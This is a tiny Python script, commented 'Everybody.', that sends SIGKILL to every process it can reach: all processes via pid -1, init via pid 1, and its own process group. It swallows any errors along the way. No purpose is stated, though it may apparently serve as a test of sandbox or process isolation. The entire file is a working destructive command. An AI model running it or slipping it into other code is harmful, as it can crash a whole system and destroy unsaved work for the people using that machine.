# Everybody.
import os
import signal
for pid in (-1, 1, 0, -os.getpgid(0)):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
